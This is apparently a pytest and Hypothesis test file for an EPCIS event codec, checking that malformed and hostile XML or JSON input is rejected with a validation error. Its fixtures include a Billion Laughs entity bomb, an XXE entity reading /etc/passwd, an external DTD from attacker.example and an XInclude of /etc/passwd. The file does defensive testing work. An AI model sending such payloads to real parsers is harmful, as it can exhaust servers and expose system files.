"""Hostile and broken input: XML bombs, XXE, XInclude, garbage — always EpcisValidationError."""

from __future__ import annotations

import contextlib
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from events.codec import EpcisValidationError, read_document, read_event

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"><EPCISBody><EventList>
<ObjectEvent><eventTime>&lol2;</eventTime></ObjectEvent></EventList></EPCISBody>
</epcis:EPCISDocument>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2">&xxe;</epcis:EPCISDocument>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"/>"""
XINCLUDE = b"""<epcis:EPCISDocument xmlns:epcis="urn:epcglobal:epcis:xsd:2"
 xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="/etc/passwd" parse="text"/>
</epcis:EPCISDocument>"""
UTF16_BOMB = (
    BILLION_LAUGHS.decode().replace('"1.0"?>', '"1.0" encoding="UTF-16"?>', 1).encode("utf-16")
)


@pytest.mark.parametrize("body", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, XINCLUDE, UTF16_BOMB])
@pytest.mark.parametrize("reader", [read_document, read_event])
def test_hostile_xml_is_refused(body: bytes, reader) -> None:
    with pytest.raises(EpcisValidationError) as caught:
        reader(body, "application/xml")
    assert caught.value.errors[0].field == "$"


def test_unsupported_media_type_is_a_validation_error() -> None:
    with pytest.raises(EpcisValidationError) as caught:
        read_document(b"{}", "text/csv")
    assert caught.value.errors[0].field == "Content-Type"


json_values = st.recursive(
    st.none() | st.booleans() | st.floats(allow_nan=False) | st.integers() | st.text(max_size=20),
    lambda children: (
        st.lists(children, max_size=4)
        | st.dictionaries(
            st.sampled_from(
                [
                    "type",
                    "eventList",
                    "epcisBody",
                    "action",
                    "eventTime",
                    "epcList",
                    "readPoint",
                    "id",
                    "bizStep",
                    "ilmd",
                    "quantityList",
                    "x:y",
                    "@context",
                ]
            )
            | st.text(max_size=8),
            children,
            max_size=5,
        )
    ),
    max_leaves=20,
)
event_types = st.sampled_from(["ObjectEvent", "AggregationEvent", "TransformationEvent", "Nope"])


@settings(max_examples=200, deadline=None)
@given(body=st.binary(max_size=300), media=st.sampled_from(["application/json", "application/xml"]))
def test_garbage_bytes_only_raise_validation_errors(body: bytes, media: str) -> None:
    for reader in (read_document, read_event):
        with contextlib.suppress(EpcisValidationError):
            reader(body, media)


@settings(max_examples=300, deadline=None)
@given(
    kind=st.sampled_from(["EPCISDocument", "EPCISQueryDocument"]),
    events=st.lists(st.dictionaries(st.text(max_size=10), json_values, max_size=6), max_size=3),
    event_type=event_types,
    extra=json_values,
)
def test_wrong_shapes_only_raise_validation_errors(kind, events, event_type, extra) -> None:
    for event in events:
        event["type"] = event_type
    document = {
        "@context": ["x"],
        "type": kind,
        "schemaVersion": "2.0",
        "extra": extra,
        "epcisBody": {"eventList": events, "queryResults": extra},
    }
    body = json.dumps(document).encode()
    with contextlib.suppress(EpcisValidationError):
        read_document(body, "application/ld+json", validate=False)
    with pytest.raises(EpcisValidationError) as caught:
        read_document(body, "application/ld+json")
    assert caught.value.errors[0].field


def test_truncated_json_is_a_validation_error() -> None:
    with pytest.raises(EpcisValidationError):
        read_document(b'{"type": "EPCISDocument", "epcisBody": {"eventL', "application/json")
